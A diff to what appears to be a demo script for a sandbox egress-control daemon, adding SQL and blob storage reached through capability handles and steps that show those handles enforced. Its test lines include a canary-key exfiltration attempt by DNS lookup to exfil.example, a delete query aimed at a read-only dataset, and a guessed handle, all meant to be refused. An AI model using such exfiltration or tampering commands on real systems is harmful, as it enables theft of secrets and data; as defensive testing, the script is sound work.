@@ -62,6 +62,10 @@ for pair in api.github.com:198.18.0.10 api.stripe.com:198.18.0.11; do
   UPSTREAM_PIDS+=($!)
 done
 
+# The operator's stores for capabilities: a dataset and a drop box for results.
+mkdir -p "$WORK/results"
+python3 -c "import sqlite3; c = sqlite3.connect('$WORK/sales.db'); c.execute('create table sales(region text, amount integer)'); c.executemany('insert into sales values (?, ?)', [('north', 30), ('north', 12), ('south', 17)]); c.commit()"
+
 say "zerod starts in the host namespace (the lab's names resolve to the stand-in internet)"
 cat > "$WORK/zerod.json" << JSON
 { "netns": "$PREFIX-host", "pin_root": "/sys/fs/bpf/zeroness-$PREFIX",
@@ -70,7 +74,9 @@ cat > "$WORK/zerod.json" << JSON
   "upstream_allow": ["198.18.0.0/16", "2001:db8:18::/48"],
   "dns_static": { "api.github.com": ["198.18.0.10"], "api.stripe.com": ["198.18.0.11"],
                   "registry.npmjs.org": ["198.18.0.12"], "db.internal": ["198.18.0.13"],
-                  "evil.example": ["198.18.0.66"], "api.openai.com": ["198.18.0.10"] } }
+                  "evil.example": ["198.18.0.66"], "api.openai.com": ["198.18.0.10"] },
+  "stores": { "sql": { "sales": { "path": "$WORK/sales.db" } },
+              "blob": { "results": { "directory": "$WORK/results" } } } }
 JSON
 "$BUILD_DIR/tools/zerod/zerod" --config "$WORK/zerod.json" > "$WORK/zerod.log" 2>&1 &
 ZEROD_PID=$!
@@ -126,6 +132,18 @@ echo "  $($ZNCTL -j identity jwks | head -c 160)…"
 say "2d. A canary the operator planted: any appearance in egress is refused and raises secret:canary"
 in_guest "$CURL -w ' -> %{http_code}\\n' -H 'X-Aws-Key: AKIAZNDEMOCANARY0001' https://api.github.com/repos/x"
 in_guest 'dig akia-zn-demo.canary0001.exfil.example @8.8.8.8 +tries=1 +time=2 | grep -o "status: [A-Z]*"'
+
+say "2e. Storage by capability handle: the guest reads a dataset (SQL, read-only) and writes its result (a blob)"
+GUEST_ENV=$($ZNCTL -j session show user-1)
+SALES=$(echo "$GUEST_ENV" | python3 -c 'import json,sys; print(json.load(sys.stdin)["guest_env"]["ZN_CAP_SALES"])')
+RESULTS=$(echo "$GUEST_ENV" | python3 -c 'import json,sys; print(json.load(sys.stdin)["guest_env"]["ZN_CAP_RESULTS"])')
+echo "  ZN_CAP_SALES=$SALES  (cap.zeroness.internal is zerod itself: nothing leaves the host)"
+in_guest "$CURL -d '{\"sql\":\"select region, sum(amount) as total from sales group by region\"}' https://cap.zeroness.internal/v1/sql/$SALES; echo"
+in_guest "$CURL -w ' -> %{http_code}\\n' -d '{\"sql\":\"with x as (select 1) delete from sales\"}' https://cap.zeroness.internal/v1/sql/$SALES"
+in_guest "$CURL -w ' -> %{http_code}\\n' -X PUT --data-binary 'north leads: 42' https://cap.zeroness.internal/v1/blob/$RESULTS/run-1/summary.txt"
+echo "  in the operator's directory: $(cat "$WORK/results/run-1/summary.txt")"
+in_guest "$CURL -w ' -> %{http_code}\\n' https://cap.zeroness.internal/v1/blob/cap:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/run-1/summary.txt"
+echo "  (a guessed handle: the same 404 as a missing object, audited resource:deny)"
 
 say "3. Under default deny: api.stripe.com without its rule -> 403 default deny"
 grep -v 'api.stripe.com' examples/policy.json > "$WORK/no-stripe.json"
